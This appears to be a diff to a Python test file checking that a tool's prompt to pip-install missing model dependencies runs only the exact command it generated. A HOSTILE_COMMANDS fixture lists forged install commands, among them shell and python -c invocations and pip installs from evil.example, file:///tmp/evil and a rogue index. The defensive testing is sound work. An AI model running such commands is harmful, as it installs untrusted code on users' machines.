@@ -79,27 +79,70 @@ def test_every_missing_library_and_the_command_that_adds_them(tmp_path):
     assert failure.details["install"][:4] == [sys.executable, "-m", "pip", "install"]
 
 
-def _failed_import(install):
+def _failed_import(install, python=sys.executable, **details):
     failure = Failure("ModuleNotFoundError", "importing 'model' failed: No module named 'tiktoken'", "import",
                       details={"missing_module": "tiktoken", "missing": ["tiktoken"], "install": install,
-                               "python": sys.executable})
-    return SimpleNamespace(capture=Capture("fake", "fake", "1", Coverage("traced_program"), failure=failure))
+                               "python": python, **details})
+    return SimpleNamespace(capture=Capture("fake", "fake", "1", Coverage("traced_program"), failure=failure),
+                           job=SimpleNamespace(python=python))
 
 
-def test_nothing_is_installed_without_a_yes(capsys):
-    result = _failed_import([sys.executable, "-c", "raise SystemExit('must not run')"])
+def fake_python(tmp_path):
+    """An interpreter that writes the arguments it was run with to ``ran`` (one a line)."""
+    path = tmp_path / "bin" / "python"
+    path.parent.mkdir()
+    path.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > {tmp_path / "ran"}\n')
+    path.chmod(0o755)
+    return str(path)
+
+
+def test_nothing_is_installed_without_a_yes(tmp_path, capsys):
+    python = fake_python(tmp_path)
+    result = _failed_import([python, "-m", "pip", "install", "tiktoken"], python)
     assert offer_model_dependencies("capture", result, ask=lambda prompt: "n") is False
     err = capsys.readouterr().err
     assert "To install, run:" in err and "nothing was installed" in err
+    assert not (tmp_path / "ran").exists()
 
 
 def test_a_yes_runs_exactly_the_command_shown(tmp_path, capsys):
-    marker = tmp_path / "ran"
-    install = [sys.executable, "-c", f"open({str(marker)!r}, 'w').write('ok')"]
+    python = fake_python(tmp_path)
     asked = []
-    assert offer_model_dependencies("capture", _failed_import(install),
+    assert offer_model_dependencies("capture", _failed_import([python, "-m", "pip", "install", "tiktoken"], python),
                                     ask=lambda prompt: asked.append(prompt) or "y") is True
-    assert asked == ["Run this command now? [y/N] "] and marker.read_text() == "ok"
+    assert asked == ["Run this command now? [y/N] "]
+    assert (tmp_path / "ran").read_text().splitlines() == ["-m", "pip", "install", "tiktoken"]
+    assert f"To install, run:\n  {python} -m pip install tiktoken" in capsys.readouterr().err
+
+
+#: Install commands no parent makes (issue 52 items 1-2: each was offered, and run after "y").
+HOSTILE_COMMANDS = {
+    "shell": ["/bin/sh", "-c", "touch RAN"],
+    "python -c": [sys.executable, "-c", "open('RAN', 'w')"],
+    "index url": [sys.executable, "-m", "pip", "install", "--index-url=http://localhost:8765/simple", "tiktoken"],
+    "upgrade": [sys.executable, "-m", "pip", "install", "-U", "tiktoken"],
+    "force": [sys.executable, "-m", "pip", "install", "--force-reinstall", "tiktoken"],
+    "target": [sys.executable, "-m", "pip", "install", "--target=/tmp/x", "tiktoken"],
+    "requirements": [sys.executable, "-m", "pip", "install", "-r", "reqs.txt"],
+    "editable": [sys.executable, "-m", "pip", "install", "-e", "."],
+    "direct url": [sys.executable, "-m", "pip", "install", "tiktoken @ file:///tmp/evil"],
+    "pre": [sys.executable, "-m", "pip", "install", "--pre", "tiktoken"],
+    "path": [sys.executable, "-m", "pip", "install", "./evil"],
+    "url": [sys.executable, "-m", "pip", "install", "https://evil.example/x.whl"],
+    "wheel file": [sys.executable, "-m", "pip", "install", "evil.whl"],
+    "specifier": [sys.executable, "-m", "pip", "install", "tiktoken>=0"],
+    "other interpreter": ["/usr/bin/python3", "-m", "pip", "install", "tiktoken"],
+    "a string": f"{sys.executable} -m pip install tiktoken",
+}
+
+
+@pytest.mark.parametrize("install", HOSTILE_COMMANDS.values(), ids=HOSTILE_COMMANDS.keys())
+def test_a_command_the_parent_did_not_make_is_neither_offered_nor_run(install, tmp_path, capsys, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    asked = []
+    assert offer_model_dependencies("capture", _failed_import(install), ask=lambda p: asked.append(p) or "y") is False
+    assert asked == [] and "To install" not in capsys.readouterr().err
+    assert not (tmp_path / "RAN").exists()
 
 
 @pytest.mark.slow
